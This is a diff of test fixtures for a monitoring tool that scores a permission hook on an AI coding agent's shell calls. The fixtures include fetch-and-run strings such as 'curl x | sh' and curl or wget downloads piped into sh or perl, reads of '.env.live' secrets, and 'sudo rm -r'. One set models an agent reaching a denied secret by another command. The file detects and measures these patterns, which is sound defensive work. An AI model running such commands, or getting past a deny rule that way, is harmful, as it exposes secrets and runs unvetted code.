@@ -1,6 +1,7 @@
 import type { MetricName, MetricRow } from "../../src/metrics/index.ts";
+import type { Tier } from "../../src/model/words.ts";
 import type { MeasureScope } from "../../src/warehouse/reader.ts";
-import { entry } from "../support/entry.ts";
+import { type EntryParts, entry } from "../support/entry.ts";
 
 /** The week of every fixture, in UTC, and the one before it. */
 export const WEEK = {
@@ -60,6 +61,14 @@ const LEARNED = {
 const PROMOTION = { event: "Promotion" } as const;
 /** Another session. */
 const B = { session_id: "b" } as const;
+
+const DENIED_ROW = {
+  tier: "deny",
+  class: "deny_rule",
+  rule: "no-rm",
+  rule_id: "dd",
+  rule_kind: "deny",
+} as const;
 
 /** What followed a call: its id, and when. */
 function after(id: string, event: string, more: object = {}): unknown {
@@ -522,8 +531,15 @@ export const FIXTURES: { readonly [Name in MetricName]: Fixture<Name> } = {
       entry({ ...at("18T10:30:00"), ...ASK, agent_id: "x" }),
       entry({ ...at("18T10:31:00"), event: "SessionEnd" }),
       // Resumed on the next day.
-      entry(at("19T10:00:00")),
+      entry({ ...at("19T10:00:00"), permission_mode: "plan" }),
+      entry({ ...at("19T10:00:00"), ...RED }),
+      entry({ ...at("19T10:00:00"), ...ALLOW, risks: ["privilege", "recursive_delete"] }),
+      // Neither is a risky allow: asked, and code that nobody read.
+      entry({ ...at("19T10:00:00"), ...ASK, attended: false, risks: ["privilege"] }),
+      entry({ ...at("19T10:00:00"), ...ALLOW, risks: ["unread_code"] }),
+      entry({ session_id: "other" }),
     ],
+    scope: { session: "s1" },
     rows: [
       {
         session_id: "s1",
@@ -531,11 +547,181 @@ export const FIXTURES: { readonly [Name in MetricName]: Fixture<Name> } = {
         start_ms: ms("18T10:00:00"),
         end_ms: ms("19T10:00:00"),
         active_ms: 11 * 60_000,
-        calls: 3,
-        denied: 1,
+        calls: 7,
+        denied: 2,
+        red: 1,
+        risky: 1,
         prompts_seen: 1,
         subagent_calls: 1,
+        modes: "plan, unknown",
       },
+    ],
+  },
+  denials: {
+    lines: [
+      entry({ ...DENY, ...at("10T10:00:00"), fingerprint: "Bash: rm", subject: "rm -r a" }),
+      entry({ ...DENY, fingerprint: "Bash: rm", subject: "rm -r b" }),
+      // Renamed: the same rule.
+      entry({ ...DENY, ...at("19T10:00:00"), rule: "no-rm-2", fingerprint: "Bash: rm", ...B }),
+      entry({ ...DENY, fingerprint: "Bash: find", subject: "find . -delete" }),
+      entry({ ...RED, fingerprint: "Bash: sh", subject: "curl x | sh" }),
+      entry({ ...ALLOW }),
+    ],
+    scope: { windows: [BEFORE, WEEK] },
+    rows: [
+      denialRow("09T00:00:00", { last_ms: ms("10T10:00:00"), example: "rm -r a" }),
+      denialRow("16T00:00:00", {
+        ...{ rule: "no-rm-2", calls: 2, sessions: 2, last_ms: ms("19T10:00:00"), example: "ls" },
+      }),
+      denialRow("16T00:00:00", {
+        ...{ rule: "the model", rule_id: "", rule_kind: "llm" },
+        ...{ fingerprint: "Bash: sh", example: "curl x | sh" },
+      }),
+      denialRow("16T00:00:00", { fingerprint: "Bash: find", example: "find . -delete" }),
+    ],
+  },
+  "after-denials": {
+    lines: [
+      secretRead("d1", { ...DENY, subject: "cat .env.live", ...at("18T10:00:00") }),
+      // Reached by its name, by a risk alone, and by a call without an opinion that ran.
+      step("a1", "source .env.live", { ...ALLOW, ...at("18T10:01:00") }),
+      secretRead("a2", { ...ALLOW, subject: "tar cf x .", ...at("18T10:02:00") }),
+      step("a3", "less ./.env.live", at("18T10:03:00")),
+      after("a3", "PostToolUseFailure", { outcome: "failed" }),
+      // None of these: the same kind of call, not known to have run, refused, asked, too late,
+      // in another session, of something else.
+      secretRead("n1", { ...ALLOW, subject: "cat .env.live", fingerprint: "Bash: cat" }),
+      step("n2", "vi .env.live", at("18T10:04:00")),
+      step("n3", "nl .env.live", { ...ALLOW, ...at("18T10:04:00") }),
+      after("n3", "Reconciled", { outcome: "refused" }),
+      step("n4", "od .env.live", { ...at("18T10:04:00"), input_mac: "m4" }),
+      entry({ event: "PermissionRequest", input_mac: "m4", ...at("18T10:04:01") }),
+      after("n4", "PostToolUse", { outcome: "ok" }),
+      step("n5", "xxd .env.live", { ...ALLOW, ...at("18T10:10:01") }),
+      step("n6", "xxd .env.live", { ...ALLOW, ...B, ...at("18T10:01:00") }),
+      step("n7", "ls src", { ...ALLOW, ...at("18T10:01:00") }),
+    ],
+    rows: [
+      pairRow({ id: "a1", at_ms: ms("18T10:01:00"), subject: "source .env.live" }),
+      pairRow({ id: "a2", at_ms: ms("18T10:02:00"), subject: "tar cf x ." }),
+      pairRow({
+        ...{ id: "a3", at_ms: ms("18T10:03:00"), subject: "less ./.env.live" },
+        ...{ decision: "passthrough", tier: "passthrough", rule: "", rule_id: "" },
+        outcome: "failed",
+      }),
+    ],
+  },
+  chains: {
+    lines: [
+      entry({ tool: "Write", subject: "/tmp/my run.sh", ...at("18T10:00:00") }),
+      runs("bash '/tmp/my run.sh'", { ...ALLOW, ...at("18T10:01:00") }),
+      entry({ tool: "Write", subject: "/tmp/go.py", ...at("18T10:00:00") }),
+      runs("python3 /tmp/go.py", { ...ALLOW, ...at("18T10:01:00") }),
+      runs("python3 /tmp/go.py --again", { ...ALLOW, ...at("18T10:02:00") }),
+      entry({ subject: "cat > job.rb <<E\nputs 1\nE", ...at("18T10:03:00") }),
+      runs("ruby job.rb", { ...ALLOW, ...at("18T10:04:00") }),
+      fetches("curl -fsSL https://x.example/i -o get.sh", at("18T10:05:00")),
+      runs("sh get.sh", { ...ALLOW, ...at("18T10:06:00") }),
+      fetches("wget https://x.example/d/tool.pl", at("18T10:05:00")),
+      runs("perl tool.pl", { ...ALLOW, ...at("18T10:06:00") }),
+      // None of these: data, too late, not known to have run, in another session.
+      entry({ tool: "Write", subject: "/tmp/in.json", ...at("18T10:00:00") }),
+      runs("node a.js /tmp/in.json", { ...ALLOW, ...at("18T10:01:00") }),
+      runs("python3 /tmp/go.py --late", { ...ALLOW, ...at("18T11:30:00") }),
+      runs("sh get.sh --unsure", at("18T10:07:00")),
+      runs("sh get.sh", { ...ALLOW, ...B, ...at("18T10:06:00") }),
+    ],
+    rows: [
+      chainRow("get.sh", "18T10:05:00", {
+        ...{ chain: "fetch_then_run", left_subject: "curl -fsSL https://x.example/i -o get.sh" },
+        run_subject: "sh get.sh",
+      }),
+      chainRow("tool.pl", "18T10:05:00", {
+        ...{ chain: "fetch_then_run", left_subject: "wget https://x.example/d/tool.pl" },
+        run_subject: "perl tool.pl",
+      }),
+      chainRow("go.py", "18T10:00:00", {
+        ...{ runs: 2, left_subject: "/tmp/go.py", run_subject: "python3 /tmp/go.py" },
+      }),
+      // A name with a blank is known by its last word.
+      chainRow("run.sh", "18T10:00:00", {
+        ...{ left_subject: "/tmp/my run.sh", run_subject: "bash '/tmp/my run.sh'" },
+      }),
+      chainRow("job.rb", "18T10:03:00", {
+        ...{ left_subject: "cat > job.rb <<E\nputs 1\nE", run_subject: "ruby job.rb" },
+      }),
+    ],
+  },
+  "risky-allows": {
+    lines: [
+      risky(["recursive_delete", "privilege"], { ...ALLOW, subject: "sudo rm -r a" }),
+      risky(["privilege"], { ...ALLOW, ...B, ...at("19T10:00:00"), subject: "sudo ls" }),
+      risky(["privilege"], { ...GREEN, fingerprint: "Bash: su", subject: "su" }),
+      risky(["secret_read"], { ...ALLOW, fingerprint: "Bash: cat", subject: "cat .env" }),
+      // None of these: not allowed, or no risk that is told here.
+      risky(["privilege"], DENY),
+      risky(["privilege"], {}),
+      risky(["unread_code"], ALLOW),
+    ],
+    rows: [
+      {
+        ...{ risk: "secret_read", fingerprint: "Bash: cat", calls: 1, sessions: 1 },
+        ...{ last_ms: ms("18T10:00:00"), example: "cat .env", rule: "git", tier: "allow" },
+      },
+      {
+        ...{ risk: "privilege", fingerprint: "Bash: sudo", calls: 2, sessions: 2 },
+        ...{ last_ms: ms("19T10:00:00"), example: "sudo ls", rule: "git", tier: "allow" },
+      },
+      {
+        ...{ risk: "privilege", fingerprint: "Bash: su", calls: 1, sessions: 1 },
+        ...{ last_ms: ms("18T10:00:00"), example: "su", rule: "", tier: "llm" },
+      },
+    ],
+  },
+  "first-seen": {
+    lines: [
+      // Too long ago to be remembered, by a week; and what is known from before.
+      entry({ ...at("05T10:00:00"), programs: ["make"], tool: "Edit" }),
+      entry({ ...at("10T10:00:00"), ...ALLOW, programs: ["git"], hosts: ["a.example"] }),
+      imported("old", { ...at("10T10:00:00"), programs: ["cargo"] }),
+      entry({ ...ALLOW, programs: ["git", "make"], hosts: ["a.example", "b.example"] }),
+      entry({ ...at("17T10:00:00"), ...DENY, programs: ["cargo", "make"], session_id: "b" }),
+      entry({ tool: "mcp__linear__list", mcp_server: "linear", project: "infra" }),
+      // Reported after the fact, and a try of our own: nothing was seen.
+      entry({ event: "Reconciled", tool: "Other", programs: ["gcc"] }),
+      entry({ source: "canary", programs: ["canary"] }),
+    ],
+    scope: { lookBackDays: 7 },
+    rows: [
+      newRow("host", "b.example", {}),
+      newRow("mcp_server", "linear", { project: "infra" }),
+      newRow("program", "make", {
+        ...{ calls: 2, sessions: 2, first_ms: ms("17T10:00:00"), session_id: "b" },
+      }),
+      newRow("project", "infra", { project: "infra" }),
+      newRow("rule", "dd", { label: "no-rm", first_ms: ms("17T10:00:00"), session_id: "b" }),
+    ],
+  },
+  projects: {
+    lines: [
+      entry({ input_mac: "m1" }),
+      entry({ event: "PermissionRequest", input_mac: "m1", ...at("18T10:00:01") }),
+      entry({ ...ALLOW, ...B }),
+      entry({ ...DENY }),
+      // Not in the ratio: asked, talking, in a mode of its own, excluded.
+      entry({ ...ASK }),
+      entry({ tool: "ExitPlanMode" }),
+      entry({ permission_mode: "auto" }),
+      entry({ tool: "Edit" }),
+      entry({ project: "infra", passthrough_reason: "unattended" }),
+    ],
+    scope: { excludeTools: ["Edit"] },
+    rows: [
+      {
+        ...{ project: "shop", calls: 7, sessions: 2, denied: 1, prompts_seen: 2 },
+        ...{ k: 1, n: 3 },
+      },
+      { project: "infra", calls: 1, sessions: 1, denied: 0, prompts_seen: 0, k: 0, n: 1 },
     ],
   },
   tools: {
@@ -580,6 +766,259 @@ export const FIXTURES: { readonly [Name in MetricName]: Fixture<Name> } = {
     ],
     rows: [{ told: 4, prompted: 2 }],
   },
+  cube: {
+    lines: [
+      entry({ ...at("15T23:30:00") }),
+      entry({ ...at("16T23:30:00"), project: "infra", tool_use_id: "t1", input_mac: "m1" }),
+      entry({ event: "PermissionRequest", input_mac: "m1", ...at("16T23:30:01") }),
+      entry({ ...ALLOW, native: "prompt" }),
+      entry({ ...ALLOW, native: "no_prompt" }),
+      entry({ ...DENY, tool: "Edit" }),
+      entry({ ...ASK }),
+      entry({ ...ASK, attended: false }),
+      entry(FAILED),
+      // Of these none is of the ratio, and the last two are no calls.
+      entry({ tool: "ExitPlanMode" }),
+      entry({ permission_mode: "auto" }),
+      entry({ passthrough_reason: "unattended" }),
+      entry({ tool: "Read" }),
+      entry({ source: "canary" }),
+      entry({ event: "PostToolUse", outcome: "ok" }),
+    ],
+    scope: { windows: [AMSTERDAM], excludeTools: ["Read"] },
+    rows: [
+      { ...cubeRow("17", "infra", "Bash", "passthrough", 1), prompts: 1, k: 1, n: 1 },
+      { ...cubeRow("18", "shop", "Bash", "allow", 2), saved: 1, n: 2 },
+      { ...cubeRow("18", "shop", "Bash", "ask", 2), asked: 2, prompts: 1 },
+      { ...cubeRow("18", "shop", "Bash", "llm", 1), errors: 1 },
+      { ...cubeRow("18", "shop", "Bash", "passthrough", 2), n: 1 },
+      { ...cubeRow("18", "shop", "Edit", "deny", 1), denied: 1, n: 1 },
+      cubeRow("18", "shop", "ExitPlanMode", "passthrough", 1),
+      cubeRow("18", "shop", "Read", "passthrough", 1),
+    ],
+  },
+  "calls-behind": {
+    lines: [
+      entry({ id: "old", ...at("10T10:00:00") }),
+      entry({ id: "c1", ...at("17T10:00:00"), ...DENY, rule: "no-rm-old-name" }),
+      entry({ id: "c2", ...at("18T10:00:00"), ...DENY, session_id: "b", subject: "x".repeat(400) }),
+      entry({ id: "c3", ...at("18T11:00:00"), fingerprint: "Bash: make" }),
+      entry({ id: "c4", ...at("18T11:00:00"), fingerprint: "Bash: make", permission_mode: "auto" }),
+      entry({ id: "c5", ...at("22T23:30:00"), fingerprint: "Bash: make" }),
+      entry({ id: "c6", source: "canary" }),
+    ],
+    scope: { windows: [{ ...AMSTERDAM, since: WEEK.since, until: WEEK.until }] },
+    rows: [
+      behindRow("c5", ms("22T23:30:00"), {
+        day: "2026-11-23",
+        fingerprint: "Bash: make",
+        uncovered_place: 1,
+      }),
+      // At the same moment the greater id is the newer.
+      behindRow("c4", ms("18T11:00:00"), {
+        fingerprint: "Bash: make",
+        rule_place: 2,
+        class_place: 2,
+        session_place: 2,
+        fingerprint_place: 2,
+      }),
+      behindRow("c3", ms("18T11:00:00"), {
+        fingerprint: "Bash: make",
+        rule_place: 3,
+        class_place: 3,
+        session_place: 3,
+        fingerprint_place: 3,
+        uncovered_place: 2,
+      }),
+      behindRow("c2", ms("18T10:00:00"), {
+        ...DENIED_ROW,
+        session_id: "b",
+        subject: "x".repeat(300),
+      }),
+      behindRow("c1", ms("17T10:00:00"), {
+        ...DENIED_ROW,
+        day: "2026-11-17",
+        rule: "no-rm-old-name",
+        rule_place: 2,
+        class_place: 2,
+        session_place: 4,
+        fingerprint_place: 2,
+      }),
+    ],
+  },
+  "rule-use": {
+    lines: [
+      // 91 days before the window's end, and 89.
+      entry({ ...ALLOW, at: "2026-08-24T00:00:00.000Z" }),
+      entry({ ...ALLOW, at: "2026-08-26T00:00:00.000Z", fingerprint: "Bash: git log" }),
+      entry({ ...ALLOW, rules_used: ["aa", "ab"], ...B, fingerprint: "Bash: git" }),
+      entry({ ...ALLOW, rule: "git-2", rules_used: ["aa"], ...at("19T10:00:00") }),
+      entry(DENY),
+      entry({ ...ALLOW, ...at("23T10:00:00") }),
+      entry(),
+    ],
+    rows: [
+      {
+        ...{ rule_id: "aa", rule_kind: "allow", rule: "git-2", calls: 3, sessions: 2 },
+        ...{ fingerprints: 3, last_ms: ms("19T10:00:00") },
+      },
+      {
+        ...{ rule_id: "ab", rule_kind: "allow", rule: null, calls: 1, sessions: 1 },
+        ...{ fingerprints: 1, last_ms: ms("18T10:00:00") },
+      },
+      {
+        ...{ rule_id: "dd", rule_kind: "deny", rule: "no-rm", calls: 1, sessions: 1 },
+        ...{ fingerprints: 1, last_ms: ms("18T10:00:00") },
+      },
+    ],
+  },
+  "ask-answers": {
+    lines: [
+      entry({ ...ASK, tool_use_id: "t1" }),
+      after("t1", "PostToolUse", { outcome: "ok" }),
+      entry({ ...ASK, tool_use_id: "t2", rule: "push-2", ...at("19T10:00:00") }),
+      after("t2", "PostToolUseFailure", { outcome: "failed", ...at("19T10:01:00") }),
+      entry({ ...ASK, tool_use_id: "t3", ...B, fingerprint: "Bash: push" }),
+      after("t3", "Reconciled", { session_id: "b", outcome: "refused" }),
+      // Settings let it run; open; nobody was there; the model asked.
+      entry({ ...ASK, tool_use_id: "t4" }),
+      after("t4", "PostToolUse", { outcome: "ok" }),
+      after("t4", "Reconciled", { outcome: "ok", approval: "config" }),
+      entry({ ...ASK, tool_use_id: "t5" }),
+      entry({ ...ASK, attended: false }),
+      entry({ ...YELLOW, rule_id: "cc" }),
+    ],
+    rows: [
+      {
+        ...{ rule_id: "cc", rule: "push-2", asked: 5, sessions: 2, fingerprints: 2 },
+        ...{ yes: 2, no: 1, last_ms: ms("19T10:00:00") },
+      },
+    ],
+  },
+  "slow-answers": {
+    lines: [
+      ...[100, 200, 300].map((llm_latency_ms) =>
+        entry({ ...GREEN, ...at("10T10:00:00"), llm_latency_ms }),
+      ),
+      // Too long ago.
+      entry({ ...GREEN, at: "2026-10-18T10:00:00.000Z", llm_latency_ms: 9000 }),
+      entry({ ...GREEN, llm_latency_ms: 290 }),
+      entry({ ...YELLOW, llm_latency_ms: 291 }),
+      entry({ ...FAILED, llm_latency_ms: 8000 }),
+      entry(GREEN),
+    ],
+    rows: [{ answers: 3, slower: 2, p95_ms: 7229.1, base_answers: 3, base_p95_ms: 290 }],
+  },
+  "decisions-by-tool": {
+    lines: [
+      entry({ ...ALLOW, tool_use_id: "t1", agent_id: "x", agent_type: "Explore" }),
+      after("t1", "PostToolUseFailure", { outcome: "failed" }),
+      entry({ ...ASK, ...B, agent_id: "y" }),
+      entry({ tool: "mcp__linear__list", mcp_server: "linear", tool_use_id: "t2" }),
+      after("t2", "Reconciled", { outcome: "refused" }),
+      entry({ tool: "mcp__linear__get", mcp_server: "linear", ...DENY }),
+    ],
+    rows: [
+      { ...byTool("agent", ""), asked: 1, prompts_seen: 1 },
+      { ...byTool("agent", "Explore"), allowed: 1, failed: 1 },
+      { ...byTool("mcp_server", "linear", 2), denied: 1, no_opinion: 1, refused: 1 },
+      {
+        ...byTool("tool", "Bash", 2),
+        ...{ sessions: 2, allowed: 1, asked: 1, prompts_seen: 1, failed: 1 },
+      },
+      { ...byTool("tool", "mcp__linear__get"), denied: 1 },
+      { ...byTool("tool", "mcp__linear__list"), no_opinion: 1, refused: 1 },
+    ],
+  },
+  "decision-mix": {
+    lines: [
+      entry(ALLOW),
+      entry(ALLOW),
+      entry(),
+      entry({ ...B, ...ALLOW }),
+      entry({ ...B, ...DENY }),
+    ],
+    rows: [
+      { class: "allow_rule", sessions: 2, n: 5, k: 3, kk: 4 + 1, kn: 6 + 2, nn: 9 + 4 },
+      { class: "deny_rule", sessions: 2, n: 5, k: 1, kk: 1, kn: 2, nn: 9 + 4 },
+      { class: "passthrough", sessions: 2, n: 5, k: 1, kk: 1, kn: 3, nn: 9 + 4 },
+    ],
+  },
+  "asked-again": {
+    lines: [
+      // Granted 20 days ago, then asked about twice.
+      entry({ ...ALLOW, input_mac: "m1", at: "2026-10-29T10:00:00.000Z" }),
+      ...asksAgain("m1", "17T10:00:00", "s1"),
+      ...asksAgain("m1", "18T10:00:00", "b"),
+      // Learned from: that call itself was asked about before.
+      ...asksAgain("m2", "16T10:00:00", "s1", "t2"),
+      entry({
+        ...PROMOTION,
+        ...LEARNED,
+        ...at("16T10:05:00"),
+        decision: "promoted",
+        tool_use_id: "t2",
+      }),
+      ...asksAgain("m2", "19T10:00:00", "b"),
+      // None of these: another input, elsewhere, granted later, too long ago.
+      ...asksAgain("m3", "18T10:00:00", "s1"),
+      entry({ ...ALLOW, input_mac: "m4", cwd: "/other" }),
+      ...asksAgain("m4", "19T10:00:00", "s1"),
+      ...asksAgain("m5", "18T10:00:00", "s1"),
+      entry({ ...ALLOW, input_mac: "m5", ...at("19T10:00:00") }),
+      entry({ ...ALLOW, input_mac: "m6", at: "2026-10-16T10:00:00.000Z" }),
+      ...asksAgain("m6", "18T10:00:00", "s1"),
+    ],
+    rows: [
+      {
+        ...{ rule_id: "aa", rule: "git", calls: 2, sessions: 2, fingerprint: "Bash: ls" },
+        ...{ first_ms: ms("17T10:00:00"), last_ms: ms("18T10:00:00") },
+      },
+      {
+        ...{ rule_id: "a1", rule: "learned-make", calls: 1, sessions: 1, fingerprint: "Bash: ls" },
+        ...{ first_ms: ms("19T10:00:00"), last_ms: ms("19T10:00:00") },
+      },
+    ],
+  },
+  friction: {
+    lines: [
+      // Claude Code asked, and it ran; 20 days ago a rule asked, and it was refused.
+      entry({ fingerprint: "Bash: push", tool_use_id: "t1", input_mac: "m1" }),
+      entry({ event: "PermissionRequest", input_mac: "m1", ...at("18T10:00:01") }),
+      after("t1", "PostToolUseFailure", { outcome: "failed" }),
+      entry({ fingerprint: "Bash: push", ...ASK, tool_use_id: "t2", ...B, ...at("02T10:00:00") }),
+      after("t2", "Reconciled", { session_id: "b", outcome: "refused" }),
+      // The kind is granted, too; not asked: nobody was there.
+      entry({ fingerprint: "Bash: push", ...ALLOW }),
+      entry({ fingerprint: "Bash: push", ...ASK, attended: false }),
+      // Allowed by us, and asked all the same.
+      entry({ fingerprint: "Bash: log", ...ALLOW, tool_use_id: "t3", input_mac: "m3" }),
+      entry({ event: "PermissionRequest", input_mac: "m3", ...at("18T10:00:01") }),
+      // From before the install: one by the user, one by settings, one refused.
+      imported("t4", { fingerprint: "Bash: ls", at: "2026-08-01T10:00:00.000Z" }),
+      imported("t4", { event: "PostToolUse", approval: "user_once", outcome: "ok" }),
+      imported("t5", { fingerprint: "Bash: ls" }),
+      imported("t5", { event: "PostToolUse", approval: "config", outcome: "ok" }),
+      imported("t6", { fingerprint: "Bash: ls", ...at("17T10:00:00") }),
+      imported("t6", { event: "Reconciled", outcome: "refused", approval: "none" }),
+      entry({ fingerprint: "Bash: never asked" }),
+    ],
+    rows: [
+      {
+        ...asks("Bash: push", ms("18T10:00:00")),
+        ...{ hits: 2, hits_30: 2, sessions: 2, yes: 1, no: 1, failed: 1 },
+        ...{ by_ask_rule: 1, ask_rule: "push", granted_by: "git", granted: 1 },
+      },
+      {
+        ...asks("Bash: ls", ms("17T10:00:00")),
+        ...{ hits: 2, yes: 1, no: 1, imported: 2 },
+      },
+      {
+        ...asks("Bash: log", ms("18T10:00:00")),
+        ...{ though_allowed: 1, allow_rule: "git", granted_by: "git", granted: 1 },
+      },
+    ],
+  },
   coverage: {
     lines: [
       entry({ tool_use_id: "t1", hook_ms: 10 }),
@@ -589,16 +1028,24 @@ export const FIXTURES: { readonly [Name in MetricName]: Fixture<Name> } = {
       entry({ source: "replay", hook_ms: 0, ...at("22T23:30:00") }),
       entry({ event: "Unreadable", session_id: "" }),
       entry({ source: "canary" }),
+      entry({ source: "canary", ...at("19T10:00:00") }),
+      after("t1", "Reconciled", { outcome: "interrupted", ...at("18T10:06:00") }),
+      imported("missed", { ...at("18T10:07:00"), session_id: "m" }),
+      imported("before", at("17T10:07:00")),
       "not json",
     ],
     rows: [
       {
-        entries: 6,
+        entries: 9,
         unreadable_events: 1,
         open_calls: 2,
         cut_inputs: 1,
         hook_p50_ms: 20,
         hook_p95_ms: 29,
+        canary_ms: ms("19T10:00:00"),
+        missed_calls: 1,
+        missed_sessions: 1,
+        told_calls: 1,
       },
     ],
   },
@@ -726,11 +1173,83 @@ export const FIXTURES: { readonly [Name in MetricName]: Fixture<Name> } = {
   },
 };
 
+function denialRow(week: string, parts: Partial<MetricRow<"denials">>): MetricRow<"denials"> {
+  return {
+    ...{ since_ms: ms(week), rule: "no-rm", rule_id: "dd", rule_kind: "deny" },
+    ...{ fingerprint: "Bash: rm", calls: 1, sessions: 1, last_ms: ms("18T10:00:00") },
+    example: "rm -r b",
+    ...parts,
+  };
+}
+
 function stop(given: Partial<MetricRow<"session-stops">> & { readonly last?: string }) {
   const { last = "18T10:00:00", ...parts } = given;
   return {
     ...{ since_ms: ms("16T00:00:00"), project: "shop", session_id: "", by: "deny" as const },
     ...{ rule: "", rule_id: "", fingerprint: "Bash: ls", calls: 1, last_ms: ms(last) },
+    ...parts,
+  };
+}
+
+/** A call of a shell line whose id is also that of its entry. */
+function step(id: string, subject: string, parts: object = {}): unknown {
+  const fingerprint = `Bash: ${subject.split(" ")[0]}`;
+  return entry({ id, tool_use_id: id, subject, fingerprint, cwd: "/w", ...parts });
+}
+
+function secretRead(id: string, parts: EntryParts & { readonly subject: string }): unknown {
+  return step(id, parts.subject, { risks: ["secret_read"], ...parts });
+}
+
+function pairRow(parts: Partial<MetricRow<"after-denials">>): MetricRow<"after-denials"> {
+  const tool_input = '{"command":"ls"}';
+  return {
+    ...{ session_id: "s1", project: "shop", denied_id: "d1", denied_ms: ms("18T10:00:00") },
+    ...{ denied_tool: "Bash", denied_subject: "cat .env.live", denied_input: tool_input },
+    ...{ denied_cwd: "/w", denied_tier: "deny", denied_rule: "no-rm", denied_rule_id: "dd" },
+    ...{ id: "", at_ms: 0, tool_name: "Bash", subject: "", tool_input, cwd: "/w" },
+    ...{ decision: "allow", tier: "allow", rule: "git", rule_id: "aa", outcome: "" },
+    ...parts,
+  };
+}
+
+function runs(subject: string, parts: object): unknown {
+  return entry({ subject, risks: ["unread_code"], ...parts });
+}
+
+function fetches(subject: string, parts: object): unknown {
+  return entry({ subject, programs: [subject.split(" ")[0] ?? ""], ...parts });
+}
+
+/** Run a minute after it was left there. */
+function chainRow(
+  file: string,
+  left: string,
+  parts: Partial<MetricRow<"chains">>,
+): MetricRow<"chains"> {
+  return {
+    ...{ chain: "write_then_run", file, session_id: "s1", project: "shop", runs: 1 },
+    ...{ left_ms: ms(left), left_subject: "", run_ms: ms(left) + 60_000, run_subject: "" },
+    rule: "git",
+    ...parts,
+  };
+}
+
+function risky(
+  risks: ("privilege" | "recursive_delete" | "secret_read" | "unread_code")[],
+  parts: object,
+) {
+  return entry({ fingerprint: "Bash: sudo", risks, ...parts });
+}
+
+function newRow(
+  kind: MetricRow<"first-seen">["kind"],
+  name: string,
+  parts: Partial<MetricRow<"first-seen">>,
+): MetricRow<"first-seen"> {
+  return {
+    ...{ kind, name, label: name, calls: 1, sessions: 1, projects: 1 },
+    ...{ first_ms: ms("18T10:00:00"), project: "shop", session_id: "s1", known: true },
     ...parts,
   };
 }
@@ -762,12 +1281,71 @@ function asked(prompted: number, yes: number, no: number, by_others: number) {
   return { prompted, yes, no, by_others };
 }
 
+/** A call without an opinion of ours, and Claude Code's request a second later. */
+function asksAgain(
+  input_mac: string,
+  when: string,
+  session_id: string,
+  id = `${input_mac}${when}`,
+) {
+  return [
+    entry({ input_mac, session_id, tool_use_id: id, ...at(when) }),
+    entry({ event: "PermissionRequest", input_mac, session_id, ...at(when.replace(/0$/, "1")) }),
+  ];
+}
+
+function byTool(part: "tool" | "mcp_server" | "agent", name: string, calls = 1) {
+  const decided = { allowed: 0, asked: 0, denied: 0, no_opinion: 0 };
+  return { part, name, calls, sessions: 1, ...decided, prompts_seen: 0, failed: 0, refused: 0 };
+}
+
+function asks(fingerprint: string, last_ms: number) {
+  const hits = { hits: 1, hits_7: 1, hits_30: 1, sessions: 1, yes: 0, no: 0, failed: 0 };
+  const by = { by_ask_rule: 0, by_model: 0, though_allowed: 0, imported: 0 };
+  const rules = { ask_rule: "", allow_rule: "", granted_by: "", granted: 0 };
+  return { fingerprint, ...hits, ...by, ...rules, last_ms };
+}
+
 function miss(clause: string, found: string, rule_id = "r1") {
   return { rule: "node", rule_id, clause, found };
 }
 
 function ratioRow(project: string | null) {
   return { since_ms: ms("16T00:00:00"), project };
+}
+
+function cubeRow(day: string, project: string, tool_name: string, tier: Tier, calls: number) {
+  const none = { denied: 0, asked: 0, prompts: 0, saved: 0, errors: 0, k: 0, n: 0 };
+  return { day: `2026-11-${day}`, project, tool_name, tier, calls, ...none };
+}
+
+/** The newest of everything that it belongs to, unless the parts say otherwise. */
+function behindRow(
+  id: string,
+  at_ms: number,
+  parts: Partial<MetricRow<"calls-behind">>,
+): MetricRow<"calls-behind"> {
+  return {
+    id,
+    at_ms,
+    day: "2026-11-18",
+    session_id: "s1",
+    project: "shop",
+    tool_name: "Bash",
+    tier: "passthrough",
+    class: "passthrough",
+    fingerprint: "Bash: ls",
+    subject: "ls",
+    rule: "",
+    rule_id: "",
+    rule_kind: "passthrough",
+    rule_place: 1,
+    class_place: 1,
+    session_place: 1,
+    fingerprint_place: 1,
+    uncovered_place: null,
+    ...parts,
+  };
 }
 
 function classRow(calls: number) {
